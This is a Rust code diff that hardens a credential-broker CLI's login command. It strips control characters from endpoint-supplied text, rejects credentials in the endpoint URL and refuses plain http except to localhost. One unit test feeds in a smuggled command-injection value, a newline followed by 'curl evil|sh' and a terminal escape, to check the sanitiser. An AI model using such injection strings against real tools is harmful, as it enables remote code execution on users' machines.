@@ -201,7 +201,9 @@ pub async fn login(
         let refused = || {
             Output::failed(&format!(
                 "sign-in refused: {} ({}; request id {})",
-                refusal.error.message, refusal.error.code, refusal.request_id
+                printable(&refusal.error.message),
+                printable(&refusal.error.code),
+                printable(&refusal.request_id)
             ))
         };
         match next_step(&refusal.error.code) {
@@ -244,6 +246,23 @@ fn signin_url(endpoint: &str) -> Result<String, String> {
     if parsed.query().is_some() || parsed.fragment().is_some() {
         return Err("--endpoint takes no query or fragment".to_owned());
     }
+    if !parsed.username().is_empty() || parsed.password().is_some() {
+        return Err("--endpoint takes no user name or password".to_owned());
+    }
+    // A password sent over plain HTTP is readable on the way: only to this machine.
+    let host = parsed.host_str().unwrap_or("");
+    let host = host.trim_start_matches('[').trim_end_matches(']');
+    let loopback = host.eq_ignore_ascii_case("localhost")
+        || host
+            .parse::<std::net::IpAddr>()
+            .is_ok_and(|ip| ip.is_loopback());
+    if parsed.scheme() == "http" && !loopback {
+        return Err(
+            "--endpoint: a password is sent over http:// only to this machine (localhost); \
+             use https://"
+                .to_owned(),
+        );
+    }
     Ok(format!(
         "{}{}",
         endpoint.trim_end_matches('/'),
@@ -284,8 +303,8 @@ fn printed(answer: &Answer, credential_process: bool) -> Output {
             quoted(&c.access_key_id),
             quoted(&c.secret_access_key),
             quoted(&c.session_token),
-            answer.user.arn,
-            c.expiration
+            printable(&answer.user.arn),
+            printable(&c.expiration)
         )
     };
     Output {
@@ -298,6 +317,15 @@ fn printed(answer: &Answer, credential_process: bool) -> Output {
 /// `value` in single quotes for a POSIX shell.
 fn quoted(value: &str) -> String {
     format!("'{}'", value.replace('\'', r"'\''"))
+}
+
+/// `text` from the endpoint made safe to print on a terminal or into a shell comment line:
+/// control characters (a newline would start a command in `eval "$(sts-broker login ...)"`,
+/// escapes would drive the terminal) become `?`.
+fn printable(text: &str) -> String {
+    text.chars()
+        .map(|c| if c.is_control() { '?' } else { c })
+        .collect()
 }
 
 #[cfg(test)]
@@ -317,6 +345,22 @@ mod tests {
         assert!(signin_url("ftp://x").unwrap_err().contains("http://"));
         assert!(signin_url("sts.example.com").is_err());
         assert!(signin_url("https://x/?a=b").is_err());
+        assert!(
+            signin_url("http://sts.example.com")
+                .unwrap_err()
+                .contains("https://")
+        );
+        assert!(signin_url("http://localhost:4566").is_ok());
+        assert!(signin_url("http://[::1]:4566").is_ok());
+        assert!(signin_url("https://me:pw@sts.example.com").is_err());
+    }
+
+    #[test]
+    fn text_from_the_endpoint_prints_no_control_characters() {
+        assert_eq!(
+            printable("arn:x\ncurl evil|sh\u{1b}[2J"),
+            "arn:x?curl evil|sh?[2J"
+        );
     }
 
     #[test]
